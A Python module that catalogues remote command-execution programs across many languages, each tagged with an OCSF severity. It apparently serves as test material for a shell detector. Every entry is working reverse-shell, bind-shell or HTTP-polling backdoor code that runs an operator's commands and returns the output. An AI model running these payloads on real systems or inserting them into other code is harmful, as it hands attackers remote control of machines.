"""Programs that carry out a remote operator's orders one by one, without any shell that stays on a stream."""

from __future__ import annotations

import msgspec

from live.channels import Transport
from live.programs import Language, needed

MEDIUM, HIGH = 3, 4
"""OCSF severity_id."""
_CALL = "import os, socket\nnet = socket.create_connection((os.environ['HOST'], int(os.environ['PORT'])))\n"


class Loop(msgspec.Struct, frozen=True, kw_only=True):
    """One program. HOST and PORT say where its operator is; WEB where it asks for work, if it does so over HTTP."""

    name: str
    language: Language
    text: str
    polls: bool = False
    """Whether it asks a web server at /order and reports to /answer."""
    transport: Transport = Transport.TCP
    severity: int = HIGH
    """How severe a finding about it must be at least."""
    programs: tuple[str, ...] = ()

    @property
    def needs(self) -> tuple[str, ...]:
        """Everything without which it cannot run here."""
        return (*needed(self.language), *self.programs)


ALL = (
    Loop(
        name="python-output-of-each-line",
        language=Language.PYTHON,
        text=_CALL
        + """
import subprocess
for order in net.makefile("rb"):
    net.sendall(subprocess.Popen(order, shell=True, stdout=-1, stderr=-2).communicate()[0])
""",
    ),
    Loop(
        name="python-system-into-file",
        language=Language.PYTHON,
        text=_CALL
        + """
from pathlib import Path
while order := net.recv(2000).decode().rstrip():
    os.system(order + " >answer")
    net.send(Path("answer").read_bytes())
""",
    ),
    Loop(
        name="python-greets-first",
        language=Language.PYTHON,
        severity=MEDIUM,
        text=_CALL
        + """
import subprocess
net.sendall(b"ready on " + os.uname().nodename.encode() + b"\\n")
for order in net.makefile():
    net.sendall(subprocess.check_output(["bash", "-c", order]))
""",
    ),
    Loop(
        name="python-worker-behind-unix-socket",
        language=Language.PYTHON,
        text="""
import os, socket, subprocess
near, far = socket.socketpair()
if os.fork() == 0:
    near.close()
    while order := far.recv(2000).decode():
        far.sendall(subprocess.getoutput(order).encode() + b"\\n")
    os._exit(0)
far.close()
"""
        + _CALL
        + """
for order in net.makefile("rb"):
    near.sendall(order)
    net.sendall(near.recv(65536))
""",
    ),
    Loop(
        name="python-worker-behind-mapped-file",
        language=Language.PYTHON,
        text="""
import mmap, os, subprocess, time
with open("board", "wb") as board:
    board.truncate(8192)
board = mmap.mmap(os.open("board", os.O_RDWR), 8192)

def put(turn, data):
    board[1:] = data.ljust(8191, b"\\0")[:8191]
    board[:1] = turn

def get(turn):
    while board[:1] != turn:
        time.sleep(0.01)
    return board[1:].rstrip(b"\\0")

if os.fork() == 0:
    while True:
        put(b"a", subprocess.run(["sh", "-c", get(b"q")], stdout=-1).stdout)
"""
        + _CALL
        + """
while order := net.recv(2000):
    put(b"q", order)
    net.sendall(get(b"a"))
""",
    ),
    Loop(
        name="perl-backquotes",
        language=Language.PERL,
        text="""
use IO::Socket;
my $net = IO::Socket::INET->new("$ENV{HOST}:$ENV{PORT}") or die $!;
while (defined(my $order = $net->getline)) { $net->print(scalar `$order 2>&1`) }
""",
    ),
    Loop(
        name="ruby-capture",
        language=Language.RUBY,
        text="""
require "open3"
require "socket"
Socket.tcp(ENV["HOST"], ENV["PORT"]) do |net|
  net.each_line { |order| net.write Open3.capture2e(order + ";")[0] }
end
""",
    ),
    Loop(
        name="php-exec",
        language=Language.PHP,
        text="""
<?php
$net = stream_socket_client("tcp://{$_SERVER['HOST']}:{$_SERVER['PORT']}");
while ($order = stream_get_line($net, 4096, "\\n")) {
    $lines = [];
    exec($order, $lines);
    fwrite($net, implode("\\n", $lines) . "\\n");
}
""",
    ),
    Loop(
        name="gawk-pipes",
        language=Language.GAWK,
        text="""
BEGIN {
    RS = "\\n"; net = "/inet/tcp/0/" ENVIRON["HOST"] "/" ENVIRON["PORT"]
    while ((net |& getline order) > 0) {
        while ((order | getline line) > 0) print line |& net
        close(order)
    }
}
""",
    ),
    Loop(
        name="tcl-exec-each",
        language=Language.TCL,
        severity=MEDIUM,
        text="""
set net [socket $env(HOST) $env(PORT)]
fconfigure $net -buffering none
while {[gets $net order] >= 0} { puts $net [exec /bin/sh -c $order] }
""",
    ),
    Loop(
        name="node-exec-each",
        language=Language.NODE,
        text="""
const { exec } = require('child_process');
const net = require('net').createConnection({ host: process.env.HOST, port: process.env.PORT });
net.setEncoding('utf8').on('data', order => exec(order, (_, said) => net.write(said)));
""",
    ),
    Loop(
        name="java-process-each",
        language=Language.JAVA,
        text="""
import java.net.Socket;
import java.util.Scanner;

class Main {
    public static void main(String[] none) throws Exception {
        var net = new Socket(System.getenv("HOST"), Integer.parseInt(System.getenv("PORT")));
        var out = net.getOutputStream();
        for (var orders = new Scanner(net.getInputStream()); orders.hasNextLine();)
            new ProcessBuilder("sh", "-c", orders.nextLine()).start().getInputStream().transferTo(out);
    }
}
""",
    ),
    Loop(
        name="c-popen-each",
        language=Language.C,
        text="""
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(void) {
    struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(atoi(getenv("PORT")))};
    inet_aton(getenv("HOST"), &there.sin_addr);
    int net = socket(AF_INET, SOCK_STREAM, 0);
    char order[1024], line[1024];
    connect(net, (void *)&there, sizeof there);
    for (long size; (size = read(net, order, sizeof order - 1)) > 0;) {
        order[size] = 0;
        FILE *said = popen(order, "r");
        while (fgets(line, sizeof line, said)) dprintf(net, "%s", line);
        pclose(said);
    }
}
""",
    ),
    Loop(
        name="bash-reads-descriptor",
        language=Language.BASH,
        text="""
exec 7<>/dev/tcp/$HOST/$PORT
while IFS= read -r order <&7; do eval "$order" >&7; done
""",
    ),
    Loop(
        name="python-waits-for-operator",
        language=Language.PYTHON,
        transport=Transport.BIND,
        text="""
import os, socket, subprocess
door = socket.create_server((os.environ["HOST"], int(os.environ["PORT"])))
guest, _ = door.accept()
for order in guest.makefile():
    guest.sendall(subprocess.run(["sh", "-c", order], capture_output=True).stdout)
""",
    ),
    Loop(
        name="python-asks-over-http",
        language=Language.PYTHON,
        polls=True,
        severity=MEDIUM,
        text="""
import os, subprocess, time
from urllib.request import Request, urlopen
while True:
    order = urlopen(os.environ["WEB"] + "/order").read()
    if order:
        urlopen(Request(os.environ["WEB"] + "/answer", subprocess.getoutput(order).encode()))
    time.sleep(0.4)
""",
    ),
    Loop(
        name="shell-asks-with-curl",
        language=Language.BASH,
        polls=True,
        severity=MEDIUM,
        programs=("curl",),
        text="""
while sleep 0.4; do
    order=$(curl -fs "$WEB/order") || continue
    [ -z "$order" ] || bash -c "$order" 2>&1 | curl -fs --data-binary @- "$WEB/answer"
done
""",
    ),
    Loop(
        name="cell-runs-what-it-hears",
        language=Language.CELLS_STAY,
        text=_CALL
        + """
import threading
def listen():
    for order in net.makefile():
        net.sendall(os.popen(order).read().encode())
threading.Thread(target=listen).start()
""",
    ),
)
